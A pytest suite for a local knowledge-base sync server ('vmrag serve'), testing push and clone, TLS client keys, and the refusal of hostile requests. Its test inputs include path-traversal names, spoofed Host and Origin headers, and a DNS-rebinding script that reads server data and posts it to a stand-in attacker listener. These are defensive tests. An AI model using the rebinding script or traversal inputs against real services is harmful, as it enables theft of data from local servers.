"""`vmrag serve` as a process, and the engine's own client on the other side."""

from __future__ import annotations

import json
import os
import queue
import shutil
import signal
import socket
import ssl
import subprocess
import sys
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

from tests.support.cli import VMRAG, error_of
from tests.support.terminal import Done, Project
from vmrag_link.engines.doltlite.connection import Connection
from vmrag_link.errors import VmragError

PATIENCE = 20
LOOPBACK = "127.0.0.1"


class Server:
    """A running `vmrag serve`; what it said first is in `said`."""

    def __init__(self, cwd: Path, *arguments: str) -> None:
        self.process = start(cwd, *arguments, "--json")
        self.said = json.loads(self.process.stdout.readline())

    def url(self, name: str) -> str:
        return f"{self.said['url']}/{name}"

    def stop(self, number: int = signal.SIGINT) -> Done:
        self.process.send_signal(number)
        return done(self.process)


Serve = Callable[..., Server]


def start(cwd: Path, *arguments: str) -> subprocess.Popen[str]:
    return subprocess.Popen(
        [*VMRAG, "serve", *arguments], cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True
    )


def done(process: subprocess.Popen[str]) -> Done:
    out, err = process.communicate(timeout=PATIENCE)
    return Done(process.returncode, out, err)


def refused(cwd: Path, *arguments: str) -> dict[str, object]:
    """The error of a command line that serves nothing."""
    return error_of(Project(cwd).vmrag("serve", *arguments, "--json", code=None))


@pytest.fixture
def serve(tmp_path: Path) -> Iterator[Serve]:
    """Servers on free ports, stopped at the end."""
    running: list[Server] = []

    def begin(*arguments: str, port: int = 0) -> Server:
        running.append(Server(tmp_path, *arguments, "--port", str(port)))
        return running[-1]

    yield begin
    for server in running:
        if server.process.poll() is None:
            stopped = server.stop()
            assert (stopped.code, stopped.out, stopped.err) == (0, "", "")


def sql(path: Path, *statements: tuple[str, ...]) -> list[tuple[object, ...]]:
    rows: list[tuple[object, ...]] = []
    with Connection(path, access="create") as connection:
        for statement, *values in statements:
            rows = connection.execute(statement, values)
    return rows


def knowledge(path: Path, *rows: str) -> Path:
    sql(path, ("CREATE TABLE pages(id TEXT PRIMARY KEY)",))
    record(path, *rows)
    return path


def record(path: Path, *rows: str) -> None:
    inserted = [("INSERT INTO pages VALUES (?)", row) for row in rows]
    sql(path, *inserted, ("SELECT dolt_commit('-A', '-m', ?)", f"add {rows}"))


def push(path: Path, url: str) -> None:
    name = f"remote{len(sql(path, ('SELECT name FROM dolt_remotes',)))}"
    sql(path, ("SELECT dolt_remote('add', ?, ?)", name, url), ("SELECT dolt_push(?, 'main')", name))


def cloned(path: Path, url: str) -> list[str]:
    rows = sql(path, ("SELECT dolt_clone(?)", url), ("SELECT id FROM pages ORDER BY id",))
    return [str(row[0]) for row in rows]


def complaint(work: Callable[[], object]) -> tuple[int, str]:
    """The code and the sentence of the engine's error."""
    with pytest.raises(VmragError) as caught:
        work()
    return caught.value.details["sqlite_code"], caught.value.details["sqlite_message"]


# -- what it serves --------------------------------------------------------------------------------


def test_a_knowledge_base_is_pushed_cloned_and_pulled(serve: Serve, tmp_path: Path) -> None:
    server = serve("served")
    ours, theirs = knowledge(tmp_path / "ours.db", "one"), tmp_path / "theirs.db"
    push(ours, server.url("handbook"))
    assert cloned(theirs, server.url("handbook")) == ["one"]
    record(theirs, "two")
    sql(theirs, ("SELECT dolt_push('origin', 'main')",))
    pulled = sql(ours, ("SELECT dolt_pull('remote0', 'main')",), ("SELECT id FROM pages ORDER BY id",))
    assert pulled == [("one",), ("two",)]


def test_the_folder_is_made_for_the_owner_alone(serve: Serve, tmp_path: Path) -> None:
    served = serve("new/served").said
    assert (tmp_path / "new" / "served").stat().st_mode & 0o777 == 0o700
    assert served == {
        "url": served["url"],
        "folder": str(tmp_path / "new" / "served"),
        "names": [],
        "protected": False,
    }
    assert served["url"].startswith("http://127.0.0.1:")


def test_what_a_file_remote_wrote_is_served_and_the_other_way_round(serve: Serve, tmp_path: Path) -> None:
    (tmp_path / "served").mkdir()
    push(knowledge(tmp_path / "first.db", "one"), f"file://{tmp_path}/served/by-file")
    server = serve("served")
    assert server.said["names"] == ["by-file"]
    assert cloned(tmp_path / "a.db", server.url("by-file")) == ["one"]
    push(tmp_path / "a.db", server.url("by-http"))
    assert cloned(tmp_path / "b.db", f"file://{tmp_path}/served/by-http") == ["one"]


def test_a_push_that_would_drop_what_is_there_is_refused(serve: Serve, tmp_path: Path) -> None:
    server = serve("served")
    push(knowledge(tmp_path / "first.db", "one"), server.url("x"))
    other = knowledge(tmp_path / "other.db", "other")
    code, sentence = complaint(lambda: push(other, server.url("x")))
    assert (code, "not a fast-forward" in sentence) == (19, True)
    assert cloned(tmp_path / "c.db", server.url("x")) == ["one"]


def test_nobody_gets_out_of_the_folder(serve: Serve, tmp_path: Path) -> None:
    knowledge(tmp_path / "secret.db", "one")
    server = serve("served")
    for name in ("../secret.db", "%2e%2e/secret.db", "..%2fsecret.db", ".x", "a/b", "none"):
        assert complaint(lambda name=name: cloned(tmp_path / "c.db", server.url(name))) == (1, "not found")
        (tmp_path / "c.db").unlink()
    ours = knowledge(tmp_path / "ours.db", "one")
    for name in ("../planted", ".planted", "a/planted"):
        assert complaint(lambda name=name: push(ours, server.url(name))) == (1, "not found")
    assert list((tmp_path / "served").iterdir()) == []
    assert not (tmp_path / "planted").exists()


def test_slow_clients_do_not_keep_others_waiting(serve: Serve, tmp_path: Path) -> None:
    server = serve("served")
    port = int(server.said["url"].rpartition(":")[2])
    idle = [socket.create_connection((LOOPBACK, port)) for _ in range(40)]
    idle[0].sendall(f"POST /x/chunks HTTP/1.1\r\n{CLIENT}\r\n{BYTES}\r\nContent-Length: 100\r\n\r\nbegun".encode())
    push(knowledge(tmp_path / "ours.db", "one"), server.url("x"))
    assert cloned(tmp_path / "c.db", server.url("x")) == ["one"]
    stopped = server.stop()
    assert (stopped.code, stopped.err) == (0, "")
    for connection in idle:
        connection.close()


def test_a_request_that_lasts_too_long_is_cut_off(serve: Serve) -> None:
    server = serve("served", "--timeout", "1")
    port = int(server.said["url"].rpartition(":")[2])
    with socket.create_connection((LOOPBACK, port), timeout=PATIENCE) as connection:
        connection.sendall(f"POST /x/chunks HTTP/1.1\r\n{CLIENT}\r\n{BYTES}\r\nContent-Length: 100\r\n\r\n".encode())
        assert b"200" not in connection.recv(1000)


# -- start and stop --------------------------------------------------------------------------------


@pytest.mark.parametrize("number", [signal.SIGINT, signal.SIGTERM])
def test_it_ends_well_when_it_is_told_to(serve: Serve, tmp_path: Path, number: int) -> None:
    server = serve("served")
    push(knowledge(tmp_path / "ours.db", "one"), server.url("x"))
    stopped = server.stop(number)
    assert (stopped.code, stopped.out, stopped.err) == (0, "", "")
    assert complaint(lambda: cloned(tmp_path / "c.db", server.url("x"))) == (1, "could not connect to remote")


def test_it_tells_a_person_where_everything_is(tmp_path: Path) -> None:
    (tmp_path / "served").mkdir()
    push(knowledge(tmp_path / "first.db", "one"), f"file://{tmp_path}/served/handbook")
    process = start(tmp_path, "served", "--port", "0")
    said = [process.stdout.readline() for _ in range(4)]
    process.send_signal(signal.SIGTERM)
    assert done(process).code == 0
    url = said[0].rpartition(" at ")[2].removesuffix("/NAME\n")
    assert said == [
        f"Serving {tmp_path}/served at {url}/NAME\n",
        f"  {url}/handbook\n",
        "Every program on this computer may read and write it; web pages may not.\n",
        "Ctrl-C stops the server.\n",
    ]


def test_a_port_in_use_is_named_with_a_way_out(serve: Serve, tmp_path: Path) -> None:
    port = serve("served").said["url"].rpartition(":")[2]
    error = refused(tmp_path, "other", "--port", port)
    assert error["code"] == "BUSY"
    assert error["message"] == f"Port {port} of 127.0.0.1 is in use."
    assert error["hint"] == f"Take a free one: vmrag serve {tmp_path}/other --port 0"


def test_an_address_of_another_computer_is_refused(tmp_path: Path, client: Path) -> None:
    error = refused(tmp_path, "served", *protection(tmp_path), "--bind", "192.0.2.1")
    assert error["message"] == "This computer has no address 192.0.2.1."


@pytest.mark.parametrize("address", ["localhost", "::1", "10.0.0", ""])
def test_only_ipv4_addresses_are_taken(tmp_path: Path, address: str) -> None:
    assert "is not an IPv4 address" in refused(tmp_path, "served", "--bind", address)["message"]


def test_without_a_folder_it_says_what_is_missing(tmp_path: Path) -> None:
    assert refused(tmp_path)["message"] == "Missing argument 'FOLDER'."


def test_a_file_is_no_folder(tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    assert refused(tmp_path, "file")["message"] == f"{tmp_path}/file is not a folder."


def test_a_folder_with_anything_else_in_it_is_not_served(tmp_path: Path) -> None:
    outside = knowledge(tmp_path / "outside.db", "one")
    for name, make in {
        "notes.txt": lambda path: path.write_text("a page"),
        "link": lambda path: path.symlink_to(outside),
        "dangling": lambda path: path.symlink_to(tmp_path / "nowhere"),
        "folder": lambda path: path.mkdir(),
        "pipe": os.mkfifo,
        "a b": lambda path: path.touch(),
    }.items():
        (tmp_path / "served").mkdir()
        make(tmp_path / "served" / name)
        error = refused(tmp_path, "served")
        assert (error["code"], error["details"]) == ("INVALID_PARAMETER", {"entry": name})
        shutil.rmtree(tmp_path / "served")


def test_the_knowledge_base_of_a_repository_is_not_served(tmp_path: Path) -> None:
    (tmp_path / "kb").mkdir()
    knowledge(tmp_path / "kb" / "kb.doltlite", "one")
    (tmp_path / "kb" / "write.lock").touch()
    assert "a repository works on" in refused(tmp_path, "kb")["message"]


# -- web pages -------------------------------------------------------------------------------------


def answered(server: Server, request: str, *headers: str, body: bytes = b"") -> int:
    """The status of the answer to a request as it stands here, PORT replaced; 0 for none."""
    port = server.said["url"].rpartition(":")[2]
    head = "\r\n".join((f"{request} HTTP/1.1", *headers)).replace("PORT", port)
    with socket.create_connection((LOOPBACK, int(port)), timeout=PATIENCE) as connection:
        connection.sendall(f"{head}\r\n\r\n".encode() + body)
        answer = b"".join(iter(lambda: connection.recv(65536), b""))
    return int(answer.split(b" ")[1]) if answer else 0


READ, HASHES, CLIENT = "GET /x/refs", "POST /x/has-chunks", "Host: 127.0.0.1"
BYTES = "Content-Type: application/octet-stream"


def test_only_requests_that_name_this_server_and_come_from_no_page_are_answered(serve: Serve, tmp_path: Path) -> None:
    server = serve("served", "--host", "kb.example.org")
    push(knowledge(tmp_path / "ours.db", "one"), server.url("x"))
    for host in ("127.0.0.1", "127.0.0.1:PORT", "localhost:PORT", "LocalHost", "kb.example.org:PORT"):
        assert answered(server, READ, f"Host: {host}") == 200, host
    for ours in ("Origin: http://127.0.0.1:PORT", "Sec-Fetch-Site: none", "Sec-Fetch-Site: same-origin"):
        assert answered(server, READ, CLIENT, ours) == 200, ours
    hosts = "evil.test evil.test:PORT 127.0.0.1. 127.0.0.1:1 127.0.0.1:PORT.evil.test 127.1 2130706433 [::1]:PORT 0.0.0.0:PORT localhost.".split()
    for host in (*hosts, "", "127.0.0.1@evil.test", "evil.test, 127.0.0.1"):
        assert answered(server, READ, f"Host: {host}") == 403, host
    assert answered(server, READ) == 400
    assert answered(server, READ, CLIENT, "Host: evil.test") == 400
    for foreign in (
        "Origin: http://evil.test",
        "Origin: null",
        "Origin: https://127.0.0.1:PORT",
        "Origin: http://127.0.0.1:1",
        "origin: http://127.0.0.1:PORT.evil.test",
        "Sec-Fetch-Site: cross-site",
        "sec-fetch-site: same-site",
    ):
        for request in (READ, "PUT /planted/refs-if", "POST /planted/commit"):
            assert answered(server, request, CLIENT, "Content-Length: 0", foreign) == 403, (request, foreign)
    assert [path.name for path in (tmp_path / "served").iterdir() if not path.name.startswith(".")] == ["x"]


def test_only_what_the_engines_client_sends_is_taken(serve: Serve, tmp_path: Path) -> None:
    server = serve("served")
    push(knowledge(tmp_path / "ours.db", "one"), server.url("x"))
    assert answered(server, HASHES, CLIENT, BYTES, "Content-Length: 20", body=b"h" * 20) == 200
    for method in ("OPTIONS", "HEAD", "DELETE", "PATCH", "CONNECT", "get"):
        assert answered(server, f"{method} /x/refs", CLIENT) == 405, method
    for kind in (
        "text/plain",
        "application/x-www-form-urlencoded",
        "multipart/form-data; boundary=x",
        "application/json",
    ):
        sent = answered(server, HASHES, CLIENT, f"Content-Type: {kind}", "Content-Length: 20", body=b"h" * 20)
        assert sent == 415, kind
    assert answered(server, HASHES, CLIENT, "Content-Length: 20", body=b"h" * 20) == 415
    for broken in (
        "Content-Length: -1",
        "Content-Length: 1_0",
        "Content-Length: 1\r\nContent-Length: 2",
        "Transfer-Encoding: chunked",
        " folded: line",
        "X-Content-Length : 5",
        "X: a\nHost: b",
        "no colon",
    ):
        assert answered(server, HASHES, CLIENT, BYTES, broken) == 400, broken
    assert answered(server, "GET http://evil.test/x/refs", CLIENT) == 400
    assert answered(server, READ, CLIENT, f"X: {'x' * 20_000}") == 431
    assert cloned(tmp_path / "c.db", server.url("x")) == ["one"]


def test_nothing_but_the_checked_port_leads_to_the_engines_own_server(serve: Serve) -> None:
    server = serve("served")
    assert listening(server.process.pid) == [int(server.said["url"].rpartition(":")[2])]


def listening(process: int) -> list[int]:
    """The TCP ports on which a process listens."""
    folder = Path(f"/proc/{process}")
    if not folder.exists():
        pytest.skip("only Linux tells what a process listens on")
    sockets = {str(each.readlink()) for each in (folder / "fd").iterdir() if each.is_symlink()}
    rows = [line.split() for table in ("tcp", "tcp6") for line in (folder / "net" / table).read_text().splitlines()[1:]]
    return [int(row[1].rpartition(":")[2], 16) for row in rows if row[3] == "0A" and f"socket:[{row[9]}]" in sockets]


def test_a_request_without_a_signature_is_refused_over_tls_whatever_it_says(
    serve: Serve, tmp_path: Path, client: Path, certificate: tuple[Path, Path]
) -> None:
    server = serve("served", *protection(tmp_path))
    port = int(server.said["url"].rpartition(":")[2])
    trusting = ssl.create_default_context(cafile=str(certificate[0]))
    for request in (READ, "PUT /planted/refs-if", "POST /planted/commit", "OPTIONS /x/refs"):
        with (
            socket.create_connection((LOOPBACK, port), timeout=PATIENCE) as plain,
            trusting.wrap_socket(plain, server_hostname="localhost") as connection,
        ):
            connection.sendall(f"{request} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\n\r\n".encode())
            assert connection.recv(1000).split(b" ")[1] == b"401", request
    assert list((tmp_path / "served").iterdir()) == []


PAGE = """<script>
const read = async () => (await fetch("/x/refs")).text();
const write = async () => (await fetch("/planted/commit", {method: "POST"})).status;
async function attempt() {
    try {
        const text = await read();
        if (text == "still the page") throw 0;
        await fetch("http://127.0.0.1:REPORT/", {method: "POST", mode: "no-cors", body: text + " " + await write()});
    } catch { setTimeout(attempt, 50); }
}
attempt();
</script>"""


class Attacker(BaseHTTPRequestHandler):
    """The page, and (POST) what it found out."""

    page = ""
    found: queue.SimpleQueue[str]

    def do_GET(self) -> None:
        self._answer(self.page if self.path == "/" else "still the page")

    def do_POST(self) -> None:
        self.found.put(self.rfile.read(int(self.headers["Content-Length"])).decode(errors="replace"))
        self._answer("")

    def _answer(self, text: str) -> None:
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(text)))
        self.send_header("Connection", "close")
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, *_: object) -> None:
        pass


def test_a_page_whose_name_is_given_this_address_reads_and_writes_nothing(serve: Serve, tmp_path: Path) -> None:
    """DNS rebinding: evil.test is first the attacker's server, then, with the same port, ours."""
    browser = shutil.which("chromium")
    if browser is None:
        pytest.skip("chromium is not installed")
    found: queue.SimpleQueue[str] = queue.SimpleQueue()
    told = type("Told", (Attacker,), {"found": found})
    listener = ThreadingHTTPServer((LOOPBACK, 0), told)
    page = PAGE.replace("REPORT", str(listener.server_port))
    shown = threading.Event()
    first = ThreadingHTTPServer((LOOPBACK, 0), type("First", (Attacker,), {"page": page}))
    port = first.server_port
    first.RequestHandlerClass.log_message = lambda *_: shown.set()
    for each in (listener, first):
        threading.Thread(target=each.serve_forever, args=(0.05,), daemon=True).start()
    options = "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking --disable-component-update --disable-sync".split()
    visiting = subprocess.Popen(
        [
            browser,
            *options,
            f"--user-data-dir={tmp_path}/profile",
            "--host-resolver-rules=MAP evil.test 127.0.0.1",
            f"http://evil.test:{port}/",
        ],
        env={**os.environ, "HOME": str(tmp_path)},
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    try:
        assert shown.wait(PATIENCE)
        first.shutdown()
        first.server_close()
        (tmp_path / "served").mkdir()
        push(knowledge(tmp_path / "ours.db", "one"), f"file://{tmp_path}/served/x")
        serve("served", port=port)
        said = found.get(timeout=PATIENCE)
    finally:
        visiting.kill()
        visiting.wait()
        for each in (listener, first):
            each.shutdown()
            each.server_close()
    assert "main" not in said
    assert said.endswith(" 403")
    assert [path.name for path in (tmp_path / "served").iterdir() if not path.name.startswith(".")] == ["x"]


# -- other computers -------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def certificate(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """A certificate for localhost that signs itself, and its key."""
    if shutil.which("openssl") is None:
        pytest.skip("openssl is not installed")
    folder = tmp_path_factory.mktemp("tls")
    made, key = folder / "cert.pem", folder / "key.pem"
    subprocess.run(
        f"openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 -keyout {key} -out {made} "
        "-subj /CN=localhost -addext subjectAltName=DNS:localhost,IP:127.0.0.1",
        shell=True,
        check=True,
        capture_output=True,
    )
    key.chmod(0o600)
    return made, key


def protection(folder: Path, *, host: str = "localhost") -> list[str]:
    """Options that name files, whatever is in them."""
    return f"--host {host} --cert {folder}/cert.pem --key {folder}/key.pem --clients {folder}/clients".split()


@pytest.fixture
def client(tmp_path: Path, certificate: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch) -> Path:
    """The folder of this test's own keys, with one in it whose public half is in `clients`; the
    certificate is trusted.
    """
    folder = tmp_path / "own"
    monkeypatch.setenv("DOLTLITE_CREDS_DIR", str(folder))
    monkeypatch.delenv("DOLTLITE_CREDS_KID", raising=False)
    monkeypatch.setenv("DOLTLITE_CA_FILE", str(certificate[0]))
    for path in certificate:
        shutil.copy(path, tmp_path)
    exported(tmp_path, "clients")
    return folder


def exported(cwd: Path, folder: str) -> Path:
    answer = done(start(cwd, "--export-key", folder, "--json"))
    assert answer.code == 0, answer
    path = Path(answer.json["path"])
    path.parent.chmod(0o700)
    path.chmod(0o600)
    return path


def test_a_client_with_a_known_key_gets_in(serve: Serve, tmp_path: Path, client: Path) -> None:
    server = serve("served", *protection(tmp_path), "--bind", "0.0.0.0")
    assert server.said["url"].startswith("https://localhost:")
    assert server.said["protected"] is True
    push(knowledge(tmp_path / "ours.db", "one"), server.url("x"))
    assert cloned(tmp_path / "c.db", server.url("x")) == ["one"]


def test_nobody_else_gets_in(
    serve: Serve, tmp_path: Path, client: Path, certificate: tuple[Path, Path], monkeypatch: pytest.MonkeyPatch
) -> None:
    server = serve("served", *protection(tmp_path))
    ours = knowledge(tmp_path / "ours.db", "one")
    push(ours, server.url("x"))
    fresh = iter(range(9))

    def attempt(url: str) -> list[tuple[int, str]]:
        return [
            complaint(lambda: cloned(tmp_path / f"c{next(fresh)}.db", url)),
            complaint(lambda: push(ours, url)),
        ]

    monkeypatch.setenv("DOLTLITE_CREDS_DIR", str(tmp_path / "none"))
    assert attempt(server.url("x")) == [(23, "unauthorized")] * 2
    sql(ours, ("SELECT dolt_creds_new()",))  # a key that the server does not know
    assert attempt(server.url("x")) == [(23, "unauthorized")] * 2
    monkeypatch.setenv("DOLTLITE_CREDS_DIR", str(client))
    by_address = server.url("x").replace("localhost", LOOPBACK)  # signed for another host
    assert attempt(by_address) == [(23, "unauthorized")] * 2
    assert attempt(server.url("x").replace("https", "http")) == [(1, "connection to remote lost")] * 2
    monkeypatch.delenv("DOLTLITE_CA_FILE")  # a certificate that nobody vouches for
    assert attempt(server.url("x")) == [(1, "could not connect to remote")] * 2


def test_a_key_that_is_taken_away_counts_no_longer(serve: Serve, tmp_path: Path, client: Path) -> None:
    server = serve("served", *protection(tmp_path))
    ours = knowledge(tmp_path / "ours.db", "one")
    push(ours, server.url("x"))
    for path in (tmp_path / "clients").iterdir():
        path.unlink()
    assert complaint(lambda: push(ours, server.url("x"))) == (23, "unauthorized")


def test_an_exported_key_holds_no_secret(tmp_path: Path, client: Path) -> None:
    (private,) = client.iterdir()
    assert private.stat().st_mode & 0o777 == 0o600
    path = exported(tmp_path, "again")
    assert path.name == private.name
    assert json.loads(path.read_text()).keys() == {"kty", "crv", "x"}
    assert json.loads(private.read_text())["d"] not in path.read_text()
    assert list(client.iterdir()) == [private]


def test_a_key_is_not_guessed_among_several(tmp_path: Path, client: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    first = next(client.iterdir()).stem
    sql(tmp_path / "x.db", ("SELECT dolt_creds_new()",))
    assert "holds 2 keys" in refused(tmp_path, "--export-key", "out")["message"]
    monkeypatch.setenv("DOLTLITE_CREDS_KID", first)
    assert exported(tmp_path, "out").stem == first


def test_a_key_that_others_can_read_is_not_exported(tmp_path: Path, client: Path) -> None:
    (private,) = client.iterdir()
    private.chmod(0o640)
    error = refused(tmp_path, "--export-key", "out")
    assert error["hint"] == f"chmod 600 {private}"
    assert not (tmp_path / "out").exists()


def test_where_no_key_can_be_kept_that_is_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "file").touch()
    monkeypatch.setenv("DOLTLITE_CREDS_DIR", str(tmp_path / "file" / "keys"))
    error = refused(tmp_path, "--export-key", "out")
    assert error["code"] == "FILE_SYSTEM_ERROR"


@pytest.mark.parametrize("address", ["0.0.0.0", "192.0.2.1"])
def test_another_address_takes_tls_and_keys(tmp_path: Path, address: str) -> None:
    error = refused(tmp_path, "served", "--bind", address)
    assert error["code"] == "INVALID_PARAMETER"
    for option in ("--cert", "--key", "--clients"):
        assert option in error["hint"]
    assert not (tmp_path / "served").exists()


@pytest.mark.parametrize("given", ["--cert c", "--cert c --key k", "--clients d", "--key k"])
def test_half_a_protection_is_none(tmp_path: Path, given: str) -> None:
    assert "belong together" in refused(tmp_path, "served", *given.split())["message"]


def test_every_address_needs_the_name_that_clients_use(tmp_path: Path) -> None:
    for arguments in (protection(tmp_path)[2:], protection(tmp_path, host="a/b")):
        error = refused(tmp_path, "served", *arguments, "--bind", "0.0.0.0")
        assert "is not a host" in error["message"]


def test_loose_permissions_are_refused_as_ssh_does(tmp_path: Path, client: Path) -> None:
    clients = tmp_path / "clients"
    (known,) = clients.iterdir()
    for path, mode, hint in (
        (tmp_path / "key.pem", 0o644, "chmod 600"),
        (clients, 0o777, "chmod go-w"),
        (known, 0o660, "chmod go-w"),
    ):
        before = path.stat().st_mode
        path.chmod(mode)
        error = refused(tmp_path, "served", *protection(tmp_path))
        assert error["hint"] == f"{hint} {path}"
        path.chmod(before)


def test_what_is_no_public_key_is_named(tmp_path: Path, client: Path) -> None:
    (private,) = client.iterdir()
    public = tmp_path / "clients" / private.name
    content = public.read_text()
    for written, said in (
        (private.read_text(), "holds a private key"),
        (content.replace("Ed25519", "X25519"), "is not a public key"),
        (content.replace('"x":"', '"x":"A'), "is not a public key"),
        ("[]", "is not a public key"),
        ("no json", "is not a key"),
    ):
        public.write_text(written)
        error = refused(tmp_path, "served", *protection(tmp_path))
        assert str(public) in error["message"]
        assert said in error["message"]
        assert json.loads(private.read_text())["d"] not in json.dumps(error)
    public.unlink()
    assert "nobody could sign in" in refused(tmp_path, "served", *protection(tmp_path))["message"]


def test_a_certificate_without_its_key_is_refused(tmp_path: Path, client: Path) -> None:
    key = tmp_path / "key.pem"
    sound = key.read_text()
    encrypted = subprocess.run(
        ["openssl", "pkcs8", "-topk8", "-in", str(key), "-passout", "pass:x"],
        capture_output=True,
        check=True,
        text=True,
    ).stdout
    other = subprocess.run(
        ["openssl", "genpkey", "-algorithm", "ed25519"], capture_output=True, check=True, text=True
    ).stdout
    for content in ("nothing", encrypted, other):
        key.write_text(content)
        assert (
            "are not a certificate and its private key" in refused(tmp_path, "served", *protection(tmp_path))["message"]
        )
    key.write_text(sound)
    (tmp_path / "cert.pem").unlink()
    assert "cert.pem: No such file" in refused(tmp_path, "served", *protection(tmp_path))["message"]
    key.unlink()
    assert "key.pem: No such file" in refused(tmp_path, "served", *protection(tmp_path))["message"]


def test_the_struct_is_that_of_the_library() -> None:
    """Eight members, as the debugging information of version 0.51.3 has them."""
    from vmrag_link.engines.doltlite.library import ServeOptions

    if sys.maxsize > 2**32:
        import ctypes

        assert ctypes.sizeof(ServeOptions) == 64
        assert [getattr(ServeOptions, name).offset for name, *_ in ServeOptions._fields_] == [
            0,
            8,
            16,
            24,
            32,
            40,
            48,
            56,
        ]
